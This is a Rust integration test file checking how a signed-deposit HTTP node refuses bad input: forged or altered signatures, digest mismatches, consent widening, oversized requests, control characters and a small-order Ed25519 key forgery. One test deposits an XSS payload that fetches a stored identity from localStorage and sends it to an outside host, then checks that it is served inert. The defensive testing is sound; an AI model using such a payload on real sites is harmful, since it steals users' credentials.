//! Bad input over HTTP: each refusal has the right status, a stable `error` code, a `detail` that
//! says what was wrong, and stores nothing.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use substrate_core::event::{ConsentChange, Event, Withdrawal};
use substrate_core::{Cid, ConsentTier, SignedEvent};

use crate::util::{
    Commons, Daemon, Http, deposit_body, deposit_event, did, envelope_json, new_key, sign_statement,
    signed_deposit, statement, text,
};

/// A running node with one public deposit by `alice` already in it.
struct Node {
    _commons: Commons,
    _daemon: Daemon,
    http: Http,
    alice: ed25519_dalek::SigningKey,
    cid: Cid,
    size: u64,
}

impl Node {
    fn new() -> Node {
        Node::with(Commons::init("bad input"))
    }

    fn with(commons: Commons) -> Node {
        let daemon = commons.start();
        let http = daemon.http();
        let alice = new_key();
        let story = text("a story already in the commons", 500);
        http.deposit(&signed_deposit(&alice, &story), &story);
        let size = http.log_size();
        assert_eq!(size, 2);
        Node { _commons: commons, _daemon: daemon, http, alice, cid: Cid::of(&story), size }
    }

    /// Nothing was stored: the log did not grow, and `cid` (when given) is unknown.
    fn nothing_stored(&self, cid: Option<&Cid>) {
        assert_eq!(self.http.log_size(), self.size, "the log grew");
        if let Some(cid) = cid {
            self.http.get(&format!("/v1/deposits/{cid}")).error(404, "not_found");
            self.http.get(&format!("/v1/deposits/{cid}/content")).error(404, "not_found");
        }
    }

    fn post_deposit(&self, body: &Value) -> crate::util::Reply {
        self.http.post_json("/v1/deposits", body)
    }

    fn post_event(&self, envelope: Value) -> crate::util::Reply {
        self.http.post_json("/v1/events", &json!({ "envelope": envelope }))
    }
}

fn assert_mentions(detail: &str, words: &[&str]) {
    for word in words {
        assert!(detail.contains(word), "the detail should mention {word:?}: {detail}");
    }
}

#[test]
fn malformed_json_is_refused() {
    let node = Node::new();
    let reply = node.http.post("/v1/deposits", br#"{"envelope": {"payloadType": "#);
    let detail = reply.error(400, "malformed_json");
    assert_mentions(&detail, &["not JSON {envelope, content}", "EOF"]);

    let reply = node.http.post("/v1/events", b"[1, 2, 3]");
    let detail = reply.error(400, "malformed_json");
    assert_mentions(&detail, &["not JSON {envelope}"]);

    // Valid JSON, but not the shape: an unknown field.
    let story = text("unknown field", 100);
    let mut body = deposit_body(&signed_deposit(&node.alice, &story).envelope, &story);
    body["extra"] = json!(true);
    let detail = node.post_deposit(&body).error(400, "malformed_json");
    assert_mentions(&detail, &["extra"]);
    node.nothing_stored(Some(&Cid::of(&story)));
}

#[test]
fn missing_signature_is_refused() {
    let node = Node::new();
    let story = text("unsigned", 200);
    let mut envelope = envelope_json(&signed_deposit(&node.alice, &story).envelope);
    envelope["signatures"] = json!([]);
    let reply = node.post_deposit(&json!({"envelope": envelope, "content": STANDARD.encode(&story)}));
    let detail = reply.error(400, "bad_signature");
    assert_mentions(&detail, &["0 signatures", "exactly one"]);
    node.nothing_stored(Some(&Cid::of(&story)));
}

#[test]
fn payload_altered_after_signing_is_refused() {
    let node = Node::new();
    let story = text("altered", 200);
    let signed = signed_deposit(&node.alice, &story);
    let mut statement: Value = serde_json::from_slice(&signed.envelope.payload).expect("statement");
    statement["predicate"]["title"] = json!("A title the depositor never signed");
    let mut envelope = envelope_json(&signed.envelope);
    envelope["payload"] = json!(STANDARD.encode(serde_json::to_vec(&statement).expect("json")));
    let reply = node.post_deposit(&json!({"envelope": envelope, "content": STANDARD.encode(&story)}));
    let detail = reply.error(400, "bad_signature");
    assert_mentions(&detail, &["does not verify", &did(&node.alice), "altered"]);
    node.nothing_stored(Some(&Cid::of(&story)));
}

#[test]
fn signature_claimed_for_another_key_is_refused() {
    let node = Node::new();
    let story = text("impersonation", 200);
    let mut envelope = envelope_json(&signed_deposit(&node.alice, &story).envelope);
    let bob = did(&new_key());
    envelope["signatures"][0]["keyid"] = json!(bob);
    let reply = node.post_deposit(&json!({"envelope": envelope, "content": STANDARD.encode(&story)}));
    let detail = reply.error(400, "bad_signature");
    assert_mentions(&detail, &["does not verify", &bob]);
    node.nothing_stored(Some(&Cid::of(&story)));

    // A keyid that is no did:key at all.
    envelope["signatures"][0]["keyid"] = json!("did:web:example.org");
    let reply = node.post_deposit(&json!({"envelope": envelope, "content": STANDARD.encode(&story)}));
    let detail = reply.error(400, "bad_signature");
    assert_mentions(&detail, &["did:web:example.org", "did:key"]);
    node.nothing_stored(Some(&Cid::of(&story)));
}

#[test]
fn content_not_matching_the_signed_digest_is_refused() {
    let node = Node::new();
    let signed_text = text("the text that was signed", 300);
    let sent_text = text("a different text of the same size", 300);
    let signed = signed_deposit(&node.alice, &signed_text);
    let reply = node.post_deposit(&deposit_body(&signed.envelope, &sent_text));
    let detail = reply.error(400, "digest_mismatch");
    assert_mentions(
        &detail,
        &[&Cid::of(&sent_text).digest_hex(), &Cid::of(&signed_text).digest_hex(), "subject"],
    );
    node.nothing_stored(Some(&Cid::of(&signed_text)));
    node.nothing_stored(Some(&Cid::of(&sent_text)));
}

#[test]
fn subject_digest_not_matching_its_cid_is_refused() {
    let node = Node::new();
    let story = text("subject digest", 300);
    let mut statement = statement(&deposit_event(&story, "narrative", ConsentTier::Public));
    let wrong = Cid::of(b"something else").digest_hex();
    statement["subject"][0]["digest"]["sha256"] = json!(wrong);
    let envelope = sign_statement(&statement, &node.alice);
    let reply = node.post_deposit(&deposit_body(&envelope, &story));
    let detail = reply.error(400, "digest_mismatch");
    assert_mentions(&detail, &[&wrong, &Cid::of(&story).to_string()]);
    node.nothing_stored(Some(&Cid::of(&story)));
}

#[test]
fn unknown_register_is_refused_with_the_vocabulary() {
    let node = Node::new();
    let story = text("a limerick", 200);
    let signed = SignedEvent::sign(deposit_event(&story, "limerick", ConsentTier::Public), &node.alice);
    let detail = node.post_deposit(&deposit_body(&signed.envelope, &story)).error(400, "unknown_register");
    assert_mentions(&detail, &["'limerick'", "narrative, conversational, technical", "encyclopedic"]);
    node.nothing_stored(Some(&Cid::of(&story)));

    // Not even a register name.
    let mut statement = statement(&deposit_event(&story, "narrative", ConsentTier::Public));
    statement["predicate"]["register"] = json!("Not A Register");
    let envelope = sign_statement(&statement, &node.alice);
    let detail = node.post_deposit(&deposit_body(&envelope, &story)).error(400, "invalid_event");
    assert_mentions(&detail, &["Not A Register", "register name"]);
    node.nothing_stored(Some(&Cid::of(&story)));
}

#[test]
fn unknown_consent_tier_is_refused_with_the_tiers() {
    let node = Node::new();
    let story = text("private thoughts", 200);
    let mut statement = statement(&deposit_event(&story, "narrative", ConsentTier::Public));
    statement["predicate"]["consent"] = json!("private");
    let envelope = sign_statement(&statement, &node.alice);
    let detail = node.post_deposit(&deposit_body(&envelope, &story)).error(400, "invalid_event");
    assert_mentions(&detail, &["private", "public", "commons", "training-only", "local"]);
    node.nothing_stored(Some(&Cid::of(&story)));
}

#[test]
fn empty_content_is_refused() {
    let node = Node::new();
    // A statement about a non-empty text, sent without it.
    let story = text("a text that never arrives", 200);
    let signed = signed_deposit(&node.alice, &story);
    let detail = node.post_deposit(&deposit_body(&signed.envelope, b"")).error(400, "empty_content");
    assert_mentions(&detail, &["empty"]);
    node.nothing_stored(Some(&Cid::of(&story)));

    // A signed deposit of the empty text itself.
    let empty = SignedEvent::sign(deposit_event(b"", "narrative", ConsentTier::Public), &node.alice);
    let reply = node.post_deposit(&deposit_body(&empty.envelope, b""));
    let detail = reply.error(400, "empty_content");
    assert_mentions(&detail, &["size", "empty"]);
    node.nothing_stored(Some(&Cid::of(b"")));
}

#[test]
fn content_over_the_configured_limit_is_413() {
    let node = Node::with(Commons::init_with_limit("small texts", 1024));
    let commons: Value = node.http.get("/v1/commons").json();
    assert_eq!(commons["max_deposit_bytes"], 1024);

    let big = text("one byte too many", 1025);
    let signed = signed_deposit(&node.alice, &big);
    let detail = node.post_deposit(&deposit_body(&signed.envelope, &big)).error(413, "too_large");
    assert_mentions(&detail, &["1025 bytes", "at most 1024"]);
    node.nothing_stored(Some(&Cid::of(&big)));

    // A body far beyond what any accepted text needs is cut off before it is parsed.
    let huge = text("far too large", 100 * 1024);
    let signed = signed_deposit(&node.alice, &huge);
    let body = serde_json::to_vec(&deposit_body(&signed.envelope, &huge)).expect("json");
    let detail = node.http.post_oversized("/v1/deposits", &body).error(413, "too_large");
    assert_mentions(&detail, &["1024 bytes"]);
    node.nothing_stored(Some(&Cid::of(&huge)));

    // Exactly at the limit is fine.
    let fits = text("just fits", 1024);
    node.http.deposit(&signed_deposit(&node.alice, &fits), &fits);
    assert_eq!(node.http.log_size(), node.size + 1);
}

#[test]
fn a_replayed_envelope_gets_the_same_receipt_and_no_new_entry() {
    let node = Node::new();
    let story = text("submitted twice", 400);
    let body = serde_json::to_vec(&deposit_body(&signed_deposit(&node.alice, &story).envelope, &story))
        .expect("json");
    let first = node.http.post("/v1/deposits", &body);
    assert_eq!(first.status, 201, "{}", first.body);
    let size = node.http.log_size();
    assert_eq!(size, node.size + 1);

    let again = node.http.post("/v1/deposits", &body);
    assert_eq!(again.status, 200, "a replay is not a new deposit: {}", again.body);
    assert_eq!(again.body, first.body, "the replay's receipt is byte-identical");
    assert_eq!(node.http.log_size(), size, "the log did not grow");

    // The same holds for a withdrawal replayed.
    let withdrawal = SignedEvent::sign(
        Event::Withdrawal(Withdrawal {
            cid: Some(Cid::of(&story)),
            reason: None,
            requested: "2026-01-02T00:00:00.000Z".into(),
        }),
        &node.alice,
    );
    let body = serde_json::to_vec(&json!({"envelope": withdrawal.envelope})).expect("json");
    let first = node.http.post("/v1/events", &body);
    assert_eq!(first.status, 201, "{}", first.body);
    let again = node.http.post("/v1/events", &body);
    assert_eq!(again.status, 200, "{}", again.body);
    assert_eq!(again.body, first.body);
    assert_eq!(node.http.log_size(), size + 1);
}

#[test]
fn concurrent_replays_of_one_envelope_make_one_entry() {
    let node = Node::new();
    let story = text("sent by eight clients at once", 400);
    let body = serde_json::to_vec(&deposit_body(&signed_deposit(&node.alice, &story).envelope, &story))
        .expect("json");
    let replies: Vec<_> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..8).map(|_| scope.spawn(|| node.http.post("/v1/deposits", &body))).collect();
        handles.into_iter().map(|h| h.join().expect("client")).collect()
    });
    let created = replies.iter().filter(|r| r.status == 201).count();
    assert_eq!(created, 1, "exactly one submission creates the entry: {replies:?}");
    for reply in &replies {
        assert!(reply.status == 201 || reply.status == 200, "{reply:?}");
        assert_eq!(reply.body, replies[0].body, "every answer carries the same receipt");
    }
    assert_eq!(node.http.log_size(), node.size + 1);
}

#[test]
fn changing_an_unknown_deposit_is_404() {
    let node = Node::new();
    let nowhere = Cid::of(b"never deposited");
    let withdrawal = SignedEvent::sign(
        Event::Withdrawal(Withdrawal {
            cid: Some(nowhere.clone()),
            reason: None,
            requested: "2026-01-02T00:00:00.000Z".into(),
        }),
        &node.alice,
    );
    let detail = node.post_event(envelope_json(&withdrawal.envelope)).error(404, "unknown_deposit");
    assert_mentions(&detail, &[&nowhere.to_string()]);
    node.nothing_stored(Some(&nowhere));
}

#[test]
fn withdrawal_by_someone_else_is_403() {
    let node = Node::new();
    let mallory = new_key();
    let withdrawal = SignedEvent::sign(
        Event::Withdrawal(Withdrawal {
            cid: Some(node.cid.clone()),
            reason: Some("not mine, but I object".into()),
            requested: "2026-01-02T00:00:00.000Z".into(),
        }),
        &mallory,
    );
    let detail = node.post_event(envelope_json(&withdrawal.envelope)).error(403, "not_depositor");
    assert_mentions(&detail, &[&did(&node.alice), &did(&mallory), &node.cid.to_string()]);
    node.nothing_stored(None);
    let deposit = node.http.get(&format!("/v1/deposits/{}", node.cid)).json();
    assert_eq!(deposit["deposit"]["status"]["state"], "active");
    assert_eq!(node.http.get(&format!("/v1/deposits/{}/content", node.cid)).status, 200);
}

fn consent_change(node: &Node, tier: ConsentTier, second: u32) -> SignedEvent {
    SignedEvent::sign(
        Event::ConsentChange(ConsentChange {
            cid: Some(node.cid.clone()),
            consent: tier,
            requested: format!("2026-01-02T00:00:{second:02}.000Z"),
        }),
        &node.alice,
    )
}

#[test]
fn widening_consent_is_409() {
    let mut node = Node::new();
    let narrowed =
        node.post_event(envelope_json(&consent_change(&node, ConsentTier::TrainingOnly, 1).envelope));
    assert_eq!(narrowed.status, 201, "{}", narrowed.body);
    node.size += 1;
    assert_eq!(node.http.log_size(), node.size);

    let widen = consent_change(&node, ConsentTier::Public, 2);
    let detail = node.post_event(envelope_json(&widen.envelope)).error(409, "consent_widening");
    assert_mentions(&detail, &["training-only → public", "narrowed"]);
    let same = consent_change(&node, ConsentTier::TrainingOnly, 3);
    let detail = node.post_event(envelope_json(&same.envelope)).error(409, "consent_unchanged");
    assert_mentions(&detail, &["already training-only"]);
    node.nothing_stored(None);
    let deposit = node.http.get(&format!("/v1/deposits/{}", node.cid)).json();
    assert_eq!(deposit["deposit"]["consent"], "training-only");
}

#[test]
fn an_unknown_event_kind_is_refused() {
    let node = Node::new();
    let withdrawal = Event::Withdrawal(Withdrawal {
        cid: Some(node.cid.clone()),
        reason: None,
        requested: "2026-01-02T00:00:00.000Z".into(),
    });
    let mut transfer = statement(&withdrawal);
    transfer["predicateType"] = json!("https://substrate.commons/predicate/transfer/v1");
    let envelope = sign_statement(&transfer, &node.alice);
    let detail = node.post_event(envelope_json(&envelope)).error(400, "unknown_event");
    assert_mentions(&detail, &["transfer", "genesis, deposit, withdrawal, consent-change"]);
    node.nothing_stored(None);

    // A known kind at the wrong endpoint.
    let story = text("posted to the wrong place", 100);
    let deposit = signed_deposit(&node.alice, &story);
    let detail = node.post_event(envelope_json(&deposit.envelope)).error(400, "wrong_endpoint");
    assert_mentions(&detail, &["/v1/deposits"]);
    let signed = SignedEvent::sign(withdrawal, &node.alice);
    let detail = node.post_deposit(&deposit_body(&signed.envelope, &story)).error(400, "wrong_endpoint");
    assert_mentions(&detail, &["withdrawal", "/v1/events"]);
    node.nothing_stored(Some(&Cid::of(&story)));
    assert_eq!(
        node.http.get(&format!("/v1/deposits/{}", node.cid)).json()["deposit"]["status"]["state"],
        "active"
    );
}

#[test]
fn control_characters_in_text_fields_are_refused() {
    let node = Node::new();
    let story = text("a text with a strange label", 200);
    for (field, value) in [
        ("license", "CC0\u{0}1.0"),
        ("title", "\u{7}\u{7}\u{7}"),
        ("title", "a title\nwith a second line"),
        ("title", "escape \u{1b}[31mred"),
        ("mediaType", "text/plain\u{0}"),
    ] {
        let mut statement = statement(&deposit_event(&story, "narrative", ConsentTier::Public));
        statement["predicate"][field] = json!(value);
        let envelope = sign_statement(&statement, &node.alice);
        let detail = node.post_deposit(&deposit_body(&envelope, &story)).error(400, "control_characters");
        assert_mentions(&detail, &["deposit", field, "control character"]);
        assert!(
            !detail.contains('\u{0}') && !detail.contains('\u{1b}'),
            "the detail echoes the bytes: {detail:?}"
        );
        node.nothing_stored(Some(&Cid::of(&story)));
    }
    // A withdrawal's reason may run over lines, not carry a NUL.
    let withdrawal = |reason: &str| {
        let event = Event::Withdrawal(Withdrawal {
            cid: Some(node.cid.clone()),
            reason: Some(reason.into()),
            requested: "2026-01-02T00:00:00.000Z".into(),
        });
        envelope_json(&SignedEvent::sign(event, &node.alice).envelope)
    };
    let detail = node.post_event(withdrawal("no longer\u{0}mine")).error(400, "control_characters");
    assert_mentions(&detail, &["withdrawal", "reason"]);
    node.nothing_stored(None);
    let reply = node.post_event(withdrawal("no longer mine:\nI wrote it for my family"));
    assert_eq!(reply.status, 201, "{}", reply.body);
}

/// Sends `head` (a request line and headers, without the blank line) over a raw connection and
/// returns the status and the body.
fn raw_request(base: &str, head: &str) -> (u16, String) {
    use std::io::{Read, Write};
    let address = base.trim_start_matches("http://");
    let mut stream = std::net::TcpStream::connect(address).expect("connect");
    stream.set_read_timeout(Some(std::time::Duration::from_secs(30))).expect("timeout");
    stream
        .write_all(format!("{head}\r\nHost: {address}\r\nConnection: close\r\n\r\n").as_bytes())
        .expect("send");
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).expect("read the answer");
    let answer = String::from_utf8_lossy(&answer).into_owned();
    let status =
        answer.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or_else(|| panic!("{answer:.200}"));
    let body = answer.split_once("\r\n\r\n").map(|(_, body)| body.to_owned()).unwrap_or_default();
    (status, body)
}

#[test]
fn an_oversized_request_target_header_or_body_gets_the_api_s_refusal() {
    let node = Node::new();
    let long = format!("GET /v1/deposits/{} HTTP/1.1", "a".repeat(20 * 1024));
    let (status, body) = raw_request(&node.http.base, &long);
    let body: Value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("{e}: {body:.200}"));
    assert_eq!((status, body["error"].as_str()), (414, Some("uri_too_long")), "{body}");
    assert_mentions(body["detail"].as_str().unwrap_or_default(), &["16384"]);

    let big = format!("GET /health HTTP/1.1\r\nX-Padding: {}", "b".repeat(1 << 20));
    let (status, body) = raw_request(&node.http.base, &big);
    let body: Value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("{e}: {body:.200}"));
    assert_eq!((status, body["error"].as_str()), (431, Some("headers_too_large")), "{body}");
    assert_mentions(body["detail"].as_str().unwrap_or_default(), &["65536"]);

    // A body announced larger than anything the node takes is refused at once, not waited for.
    let announced =
        "POST /v1/events HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 99999999999";
    let (status, body) = raw_request(&node.http.base, announced);
    let body: Value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("{e}: {body:.200}"));
    assert_eq!((status, body["error"].as_str()), (413, Some("too_large")), "{body}");
    // A deposit announced past the deposit limit, far below an adapter file's, too.
    let deposit = "POST /v1/deposits HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 50000000";
    let (status, body) = raw_request(&node.http.base, deposit);
    let body: Value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("{e}: {body:.200}"));
    assert_eq!((status, body["error"].as_str()), (413, Some("too_large")), "{body}");
    assert_mentions(body["detail"].as_str().unwrap_or_default(), &["/v1/deposits", "50000000"]);

    // The node goes on serving, and stored nothing.
    node.nothing_stored(None);
    assert_eq!(node.http.get("/health").status, 200);
}

#[test]
fn a_text_is_served_as_plain_text_whatever_its_deposit_declares() {
    let node = Node::new();
    // A depositor declares a type a browser would read as a page, and sends a script.
    let page = b"<script>fetch('//elsewhere/?' + localStorage['substrate.identity'])</script>";
    let Event::Deposit(mut deposit) = deposit_event(page, "narrative", ConsentTier::Public) else {
        unreachable!("deposit_event makes a deposit")
    };
    deposit.media_type = "text/plain, text/html".into();
    let signed = SignedEvent::sign(Event::Deposit(deposit), &node.alice);
    let reply = node.post_deposit(&deposit_body(&signed.envelope, page));
    assert_eq!(reply.status, 201, "{}", reply.body);
    let url = format!("{}/v1/deposits/{}/content", node.http.base, Cid::of(page));
    let response = ureq::get(&url).call().expect("the content");
    assert_eq!(response.header("content-type"), Some("text/plain; charset=utf-8"));
    assert_eq!(response.header("x-content-type-options"), Some("nosniff"));
    let policy = response.header("content-security-policy").unwrap_or_default().to_owned();
    assert!(policy.contains("sandbox") && policy.contains("default-src 'none'"), "{policy}");
    assert_eq!(response.into_string().expect("body").as_bytes(), page);
    // Every API answer is inert data, refusals too.
    let refused = ureq::get(&format!("{}/v1/deposits/nothing", node.http.base)).call();
    let Err(ureq::Error::Status(404, response)) = refused else { panic!("not a 404: {refused:?}") };
    assert_eq!(response.header("x-content-type-options"), Some("nosniff"));
}

#[test]
fn a_deposit_signed_by_a_small_order_key_is_refused() {
    let node = Node::new();
    // The identity point as the key, R = identity and S = 0 as the signature: the equation the
    // log's rule checks holds for every message, so anyone could sign as this key.
    let story = text("a text nobody in particular signed", 200);
    let mut envelope = signed_deposit(&node.alice, &story).envelope;
    let mut point = [0u8; 32];
    point[0] = 1;
    let weak = ed25519_dalek::VerifyingKey::from_bytes(&point).expect("a point");
    let mut sig = vec![0u8; 64];
    sig[0] = 1;
    envelope.signatures[0].keyid = substrate_core::identity::did_of(&weak);
    envelope.signatures[0].sig = sig;
    let detail = node.post_deposit(&deposit_body(&envelope, &story)).error(400, "weak_signature");
    assert_mentions(&detail, &["small order", "substrate id new"]);
    node.nothing_stored(Some(&Cid::of(&story)));
}
